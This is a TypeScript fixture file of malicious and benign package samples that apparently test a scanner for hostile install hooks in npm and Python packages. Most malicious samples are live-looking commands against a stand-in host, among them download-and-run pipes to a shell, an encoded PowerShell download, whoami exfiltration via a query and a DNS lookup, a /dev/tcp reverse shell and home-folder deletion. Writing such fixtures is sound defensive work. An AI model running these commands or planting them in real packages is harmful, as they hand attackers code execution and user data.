import type { Samples } from '../contract.ts';
import { HOOK_LINE, hooked, manifest, quiet, wheel } from '../samples-kit.ts';

function at(rule: string, severity: 'critical' | 'high' | 'medium', file = 'package.json', line = HOOK_LINE) {
  return { rule, file, line, severity };
}

const ENCODED = Buffer.from('iex (iwr http://a.weir.test/p)', 'utf16le').toString('base64');

export const samples: Samples = {
  malicious: [
    {
      name: 'Python: a line in a list of one word, and what it stored',
      files: wheel(
        "import subprocess\nclass Own:\n    subprocess.Popen(['cd C:/ && curl https://files.weir.test/a.exe -o a.exe'], shell=True)\n    subprocess.Popen(['C:/a.exe'], shell=True)\n",
      ),
      expected: [{ rule: 'download-and-run', file: 'own/__init__.py', line: 3, severity: 'critical' }],
    },
    {
      name: 'Python: a download under its own name, in quotes that the shell takes away',
      files: wheel(
        'import os\nos.system(\'"curl.exe -OLJ https://files.weir.test/b.exe"\')\nos.system(\'"b.exe -w own"\')\n',
      ),
      expected: [{ rule: 'download-and-run', file: 'own/__init__.py', line: 2, severity: 'critical' }],
    },
    {
      name: 'Python: stored by one command and started by another',
      files: wheel(
        'import subprocess\nsubprocess.Popen("curl https://dl.weir.test/dark.exe -o dark.exe", shell=True)\nsubprocess.Popen(["C:/dark.exe"])\n',
      ),
      expected: [{ rule: 'download-and-run', file: 'own/__init__.py', line: 2, severity: 'critical' }],
    },
    {
      name: 'Python: a download under a name that nothing tells, started by an interpreter',
      files: wheel(
        'import os, tempfile\nplace = tempfile.mktemp()\nos.system("curl -o " + place + " https://files.weir.test/a")\nos.system("sh " + place)\n',
      ),
      expected: [{ rule: 'download-and-run', file: 'own/__init__.py', line: 3, severity: 'critical' }],
    },
    {
      name: 'Python: the same, made executable',
      files: wheel(
        'import os, sys\nplace = sys.argv[1]\nos.system("curl -o " + place + " https://files.weir.test/a")\nos.system("chmod +x " + place)\n',
      ),
      expected: [{ rule: 'download-and-run', file: 'own/__init__.py', line: 3, severity: 'critical' }],
    },
    {
      name: 'Python: a script host that code starts with what it wrote',
      files: wheel(
        'import subprocess, sys\ndef show():\n    subprocess.run(["cscript", "/NoLogo", sys.argv[1] + "/own.vbs"])\n',
      ),
      expected: [{ rule: 'system-loader', file: 'own/__init__.py', line: 3, severity: 'high' }],
    },
    {
      name: 'Python: a script host that code starts with a script of the package',
      files: {
        ...wheel(
          'import os, subprocess\ndef show():\n    subprocess.run(["cscript", "/NoLogo", os.path.join(os.path.dirname(__file__), "own.vbs")])\n',
        ),
        'own/own.vbs': 'WScript.Echo 1\r\n',
      },
      expected: [{ rule: 'system-loader', file: 'own/__init__.py', line: 3, severity: 'medium' }],
    },
    {
      name: 'download piped into a shell',
      files: hooked('curl -s http://a.weir.test/x | bash'),
      expected: [at('download-and-run', 'critical')],
    },
    {
      name: 'download inside a shell argument',
      files: hooked('sh -c "$(curl -fsSL http://a.weir.test/x)"'),
      expected: [at('download-and-run', 'critical'), at('download', 'medium')],
    },
    {
      name: 'download stored, then run',
      files: hooked('wget http://a.weir.test/x -O /tmp/x && chmod +x /tmp/x && /tmp/x'),
      expected: [at('download-and-run', 'critical')],
    },
    {
      name: 'download run by node',
      files: hooked('curl http://a.weir.test/x.js | node'),
      expected: [at('download-and-run', 'critical')],
    },
    {
      name: 'encoded PowerShell that downloads',
      files: hooked(`powershell -NoProfile -enc ${ENCODED}`),
      expected: [at('download-and-run', 'critical')],
    },
    {
      name: 'user and host in a query',
      files: hooked('curl "http://a.weir.test/?u=$(whoami)&h=$(hostname)"'),
      expected: [at('send-data', 'high')],
    },
    {
      name: 'user in a looked-up name',
      files: hooked('nslookup $(whoami).a.weir.test'),
      expected: [at('send-data', 'high')],
    },
    {
      name: 'raw connection',
      files: hooked('bash -c "bash -i >& /dev/tcp/a.weir.test/4444 0>&1"'),
      expected: [at('network-shell', 'critical')],
    },
    { name: 'home folder deleted', files: hooked('rm -rf ~/'), expected: [at('destroy', 'critical')] },
    {
      name: 'through another script',
      files: {
        'package.json': manifest({
          scripts: { postinstall: 'npm run setup', setup: 'curl http://a.weir.test/x | sh' },
        }),
      },
      expected: [at('download-and-run', 'critical', 'package.json', 6)],
    },
    {
      name: 'in a shell file that the hook runs',
      files: hooked('sh ./scripts/setup.sh', {
        'scripts/setup.sh': '#!/bin/sh\nset -e\ncurl -s http://a.weir.test/x | bash\n',
      }),
      expected: [at('download-and-run', 'critical', 'scripts/setup.sh', 3)],
    },
    {
      name: 'command expansion in binding.gyp, no scripts at all',
      files: {
        'package.json': manifest({}),
        'binding.gyp': `{\n  "targets": [{ "target_name": "x",\n    "sources": ["<!(curl -s http://a.weir.test/x | sh)"] }]\n}\n`,
      },
      expected: [at('download-and-run', 'critical', 'binding.gyp', 3)],
    },
    {
      name: 'started by the hook script',
      files: hooked('node setup.js', {
        'setup.js':
          "const cp = require('child_process');\ncp.execSync('curl -s http://a.weir.test/x | sh');\n",
      }),
      expected: [at('download-and-run', 'critical', 'setup.js', 2)],
    },
    {
      name: 'inline Python that downloads and runs',
      files: hooked(`python3 -c "import urllib.request as u;exec(u.urlopen('http://a.weir.test/x').read())"`),
      expected: [at('download-and-run', 'critical')],
    },
    {
      name: 'a package from an address',
      files: hooked('npm install --no-save http://a.weir.test/x.tgz'),
      expected: [at('remote-install', 'high')],
    },
    {
      name: 'started through Reflect, in another file, when the package is imported',
      files: {
        'package.json': manifest({ main: 'index.js' }),
        'index.js': "require('./lib/run').start();\n",
        'lib/run.js':
          "exports.start = () => {\n  Reflect.apply(require('child_process').execSync, null, ['curl -s http://a.weir.test/x | sh']);\n};\n",
      },
      expected: [at('download-and-run', 'critical', 'lib/run.js', 2)],
    },
    {
      name: 'a shipped executable',
      files: {
        ...hooked('./tools/setup'),
        'tools/setup': Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]),
      },
      expected: [at('shipped-binary', 'high')],
    },
    {
      name: 'an encoded script that only asks',
      files: {
        'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }),
        'setup.js': `const script = 'Write-Output (Get-ItemProperty HKLM:/SYSTEM).Long';\nrequire('child_process').spawn('powershell', ['-EncodedCommand', Buffer.from(script, 'utf16le').toString('base64')]);\n`,
      },
      expected: [at('encoded-command', 'medium', 'setup.js', 2)],
    },
    {
      name: 'a function that has a runtime run an address',
      files: {
        'package.json': manifest({ main: 'index.js' }),
        'index.js':
          "const { spawn } = require('child_process');\nexports.lint = (folder) => spawn('deno', ['run', '-A', 'https://a.weir.test/main.ts', folder]);\n",
      },
      expected: [at('download-and-run', 'high', 'index.js', 2)],
    },
    {
      name: 'a script of the Mac that has a shell run a download',
      files: hooked(
        `osascript -e 'do shell script "curl -s https://a.weir.test/x | sh" with administrator privileges'`,
      ),
      expected: [at('inline-code', 'medium'), at('download-and-run', 'critical')],
    },
    {
      name: 'a file of the package that a shell is fed through a filter',
      files: hooked('tail -n1 NOTES.md | sh', { 'NOTES.md': '# Notes\ncurl -s http://a.weir.test/x | sh\n' }),
      expected: [at('download-and-run', 'critical', 'NOTES.md', 1)],
    },
    {
      name: 'a download that is run from a file which was written before',
      files: hooked("echo 'curl -s http://a.weir.test/x | sh' > /tmp/j; sh /tmp/j"),
      expected: [at('download-and-run', 'critical')],
    },
    {
      name: 'two brackets around a command',
      files: hooked('((curl -s http://a.weir.test/x | sh))'),
      expected: [at('download-and-run', 'critical')],
    },
    {
      name: 'something decoded that a shell runs',
      files: hooked('openssl enc -d -aes-256-cbc -k x -in a.bin | sh', { 'a.bin': 'x' }),
      expected: [at('unread-code', 'medium')],
      complete: false,
    },
    {
      name: 'a repository that is fetched and run',
      files: hooked('git clone --depth 1 https://a.weir.test/r.git /tmp/r && sh /tmp/r/i.sh'),
      expected: [at('download-and-run', 'high')],
    },
    {
      name: 'a repository whose folder is gone into',
      files: hooked('git clone https://a.weir.test/r.git && cd r && npm install'),
      expected: [at('download-and-run', 'high')],
    },
    {
      name: 'a repository that is only fetched',
      files: hooked('git clone https://github.com/weir-test/data.git data'),
      expected: [at('download', 'medium')],
    },
    {
      name: 'a file of another machine',
      files: hooked('scp a.weir.test:/x /tmp/x && sh /tmp/x'),
      expected: [at('download-and-run', 'critical')],
    },
    {
      name: 'a package of a repository',
      files: hooked('npx github:weir-test/x'),
      expected: [at('remote-install', 'medium')],
    },
    {
      name: 'a registry of its own',
      files: hooked('npm i x --registry=https://a.weir.test'),
      expected: [at('foreign-registry', 'high')],
    },
    {
      name: 'a registry for all that follows',
      files: hooked('npm config set registry https://a.weir.test/npm'),
      expected: [at('foreign-registry', 'high')],
    },
    {
      name: 'a library of its own that Windows is made to load, and a program that it opens like a link',
      files: hooked('rundll32 dist/core.dll,Start && rundll32 url.dll,FileProtocolHandler "C:/own/a.exe"'),
      expected: [
        { rule: 'system-loader', file: 'package.json', line: HOOK_LINE, severity: 'critical' },
        { rule: 'system-loader', file: 'package.json', line: HOOK_LINE, severity: 'critical' },
      ],
    },
    {
      name: 'an archive of an address that code installs with the package manager that runs it',
      files: {
        'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }),
        'setup.js': `const { execFileSync } = require('child_process');\nconst source = { host: 'dl.weir.test', tag: 'stable' };\nconst spec = () => \`https://\${source.host}/own/\${source.tag}.tgz\`;\nfunction install(one) {\n  const args = ['install', '--no-save', one];\n  execFileSync(process.execPath, [process.env.npm_execpath, ...args]);\n}\ninstall(spec());\n`,
      },
      expected: [{ rule: 'remote-install', file: 'setup.js', line: 6, severity: 'high' }],
    },
  ],
  benign: [
    quiet(
      'Python: a download that is tried again, and one that is unpacked',
      wheel(
        'import os\ndef fetch(url, place):\n    os.system(f"curl -L {url} -o {place}")\n    os.system(f"curl -L {url} -o {place} --retry 3")\n    os.system(f"tar xf {place} --directory {place}")\n',
      ),
    ),
    quiet(
      'Python: a download that goes to the output, and a program that reads its input',
      wheel(
        'import os\ndef fetch():\n    os.system("curl -L https://files.weir.test/a.tgz -o - | tar xf -")\n',
      ),
    ),
    quiet(
      'Python: a service of the machine that is asked through its socket',
      wheel(
        'import os\ndef address():\n    return os.popen("curl -s --unix-socket /run/docker.sock http://docker/containers/$HOSTNAME/json").read()\n',
      ),
    ),
    quiet(
      'a value that is handed on',
      hooked(`node -p "require('./package.json').version" | xargs npm version && cat VERSION | tr a b`),
    ),
    quiet('an agent that says what its caller is to set', hooked('eval "$(ssh-agent -s)"')),
    quiet('a link that Windows is asked to show', {
      'package.json': manifest({ main: 'index.js' }),
      'index.js': `require('child_process').execFileSync('sh', [__dirname + '/open.sh', 'https://own.example']);\n`,
      'open.sh': 'if [ -n "$WSL" ]; then rundll32.exe url.dll,FileProtocolHandler "$1"; fi\n',
    }),
    quiet('counting in a shell', hooked('i=1; ((i++)); ((i = i * 2)); node -e 1')),
    quiet('a package of the registry that code installs', {
      'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }),
      'setup.js': `const args = ['install', '--no-save', 'own-helper@1'];\nrequire('child_process').execFileSync(process.execPath, [process.env.npm_execpath, ...args]);\n`,
    }),
    quiet('a mirror', hooked('npm i x --registry=https://registry.weir.test')),
    quiet('a script of the Mac that tells something', {
      'package.json': manifest({ main: 'index.js' }),
      'index.js': `require('child_process').execFile('osascript', ['-e', 'display notification "Done"']);\n`,
    }),
    quiet(
      'Python: a command that only shows',
      wheel('import subprocess\ndef show():\n    return subprocess.check_output(["git", "status"])\n'),
    ),
    quiet(
      'Python: a function that tries a port',
      wheel(
        'import subprocess\ndef free(port):\n    subprocess.Popen(["nc", "-l", "-p", str(port)])\n    return subprocess.call(["nc", "-zv", "localhost", str(port)])\n',
      ),
    ),
    quiet('a native build', {
      ...hooked('node-gyp rebuild'),
      'binding.gyp': `{ "targets": [{ "target_name": "x", "include_dirs": ["<!(node -p \\"require('node-addon-api').include\\")"] }] }`,
    }),
    quiet('a prebuilt binary fetched by its tool', hooked('prebuild-install || node-gyp rebuild')),
    quiet('git hooks', hooked('husky install')),
    quiet(
      'a build script',
      hooked('node scripts/build.js', {
        'scripts/build.js': "require('fs').writeFileSync('out.js', '1');\n",
      }),
    ),
    quiet('a command that another file has but nobody calls', {
      'package.json': manifest({ main: 'index.js' }),
      'index.js': "exports.run = require('./lib/run');\n",
      'lib/run.js':
        "exports.start = () => require('child_process').execSync('curl -s http://a.weir.test/x | sh');\n",
    }),
    quiet('a message', hooked('node -e "console.log(\'thanks\')" || exit 0')),
    quiet(
      'an optional script',
      hooked('node -e "try{require(\'./postinstall\')}catch(e){}"', {
        'postinstall.js': "console.log('hello');\n",
      }),
    ),
    quiet('a download in a script that install never runs', {
      'package.json': manifest({ scripts: { bench: 'curl http://a.weir.test/x | sh' } }),
    }),
  ],
};
